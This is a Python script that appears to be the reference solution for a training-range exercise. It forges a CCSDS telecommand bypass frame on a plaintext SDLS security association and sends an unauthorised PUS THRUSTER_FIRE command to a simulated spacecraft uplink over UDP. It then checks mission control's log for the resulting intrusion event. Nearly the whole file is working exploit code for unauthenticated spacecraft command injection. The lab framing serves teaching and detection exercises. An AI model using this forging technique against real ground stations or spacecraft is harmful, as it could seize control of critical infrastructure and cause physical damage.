"""Reference attack for rogue-station: run on the attacker workstation, as the student.

The SA table in ~/sa-table.txt (handed over with the audit) lists a plaintext uplink
security association that is still operational. Plaintext means a security header
(SPI + sequence number) and no MAC: nothing to forge, anyone can fill it in.

1. Build, with the scapy layers, a type-BD (bypass) TC frame for this spacecraft: segment
   header MAP 0, a clear SDLS header on the plaintext SPI, and a PUS-C telecommand that
   mission control would only send with a flight director's approval: 8,1 THRUSTER_FIRE
   (function 4, 2000 ms). A bypass frame is not sequence-controlled, so FARM-1's V(R)
   does not matter and the ground station's COP-1 session is not disturbed.
2. Transmit it to the rf-link (UDP 5100), like any ground station.

3. Read mission control's event log (the student's own account): the spacecraft's
   on-board monitoring reports the command as UNAUTHENTICATED_COMMAND, quoting a
   reference: the evidence for the report.

Exit status 0 when the frame was sent and the event quotes the reference, 2 when the SA
table cannot be read, 3 when no UNAUTHENTICATED_COMMAND event came.
"""

from __future__ import annotations

import re
import socket
import struct
import sys
from pathlib import Path

from scapy.packet import Raw

from labctl.protocols.layers import (
    PusTc,
    SDLSHeader,
    SpacePacket,
    TCFrame,
    TCSegment,
    configure_tc,
    register_sa,
)
from labctl.protocols.sdls import SecurityAssociation, ServiceType
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

SA_TABLE = Path("/home/student/sa-table.txt")
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
APID = 0x064
THRUSTER_FIRE = 4
DURATION_MS = 2000


def read_sa_table(text: str) -> tuple[int, int] | None:
    """(SCID, plaintext SPI) from the commissioning notes."""
    scid = re.search(r"SCID (\d+)", text)
    spi = re.search(r"^(\d+)\s+plaintext\b.*\boperational\b", text, re.MULTILINE)
    return (int(scid[1]), int(spi[1])) if scid and spi else None


def forged_frame(scid: int, spi: int, arsn: int) -> TCFrame:
    # The dissector needs the SA's field lengths: SPI 2, sequence number 4, no IV, no MAC.
    register_sa(SecurityAssociation(spi, ServiceType.PLAINTEXT, iv_len=0, sn_len=4, mac_len=0))
    configure_tc(0, sdls=True)
    return (
        TCFrame(bypass=1, ctrl_cmd=0, scid=scid, vcid=0, seq=0)
        / TCSegment(seq_flags=3, map_id=0)
        / SDLSHeader(spi=spi, sn=arsn)
        / SpacePacket(packet_type=1, sec_header_flag=1, apid=APID, seq_flags=3, seq_count=1)
        / PusTc(service=8, subtype=1, source_id=0)
        / Raw(struct.pack(">HH", THRUSTER_FIRE, DURATION_MS))
    )


def main() -> int:
    try:
        found = read_sa_table(SA_TABLE.read_text())
    except OSError as exc:
        print(f"cannot read {SA_TABLE}: {exc}")
        return 2
    if found is None:
        print(f"{SA_TABLE}: no SCID or no operational plaintext SA listed")
        return 2
    scid, spi = found
    frame = forged_frame(scid, spi, arsn=1)
    raw = bytes(frame)
    TCFrame(raw).show()  # dissected again: what the spacecraft will parse
    try:
        mc = MissionControl.from_file()
        before = mc.last_event_id()
    except (OSError, MissionControlError) as exc:
        print(f"mission control: {exc}")
        mc, before = None, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(raw, RF_LINK)
    print(f"sent forged THRUSTER_FIRE: BD frame SCID {scid}, SPI {spi}, {len(raw)} octets")
    text = mc.event_text("UNAUTHENTICATED_COMMAND", before) if mc is not None else None
    found = re.search(r"INTRUSION\{[0-9a-f]+\}", text or "")
    if found is None:
        print("no UNAUTHENTICATED_COMMAND event in mission control's log")
        return 3
    print(f"the spacecraft reported it: UNAUTHENTICATED_COMMAND quoting {found.group(0)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
